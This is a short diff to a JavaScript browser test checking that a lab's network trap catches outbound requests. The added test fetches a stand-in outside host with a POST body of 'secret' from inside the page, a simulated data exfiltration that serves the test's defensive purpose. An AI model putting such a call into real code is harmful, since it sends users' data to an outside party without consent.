@@ -192,10 +192,14 @@ for (const where of ['page', 'worker']) {
 }
 
 test('the trap would have caught it', async () => {
+  const before = trap.caught;
   const context = await lab.browser.newContext({ bypassCSP: true, serviceWorkers: 'block' });
   const page = await context.newPage();
-  await page.goto('http://outside.test/').catch(() => {});
-  assert.ok(trap.caught > 0);
+  await page.goto(lab.address);
+  await page.evaluate(() =>
+    fetch('http://outside.test/', { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => {}),
+  );
+  assert.ok(trap.caught > before);
   await context.close();
 });
 
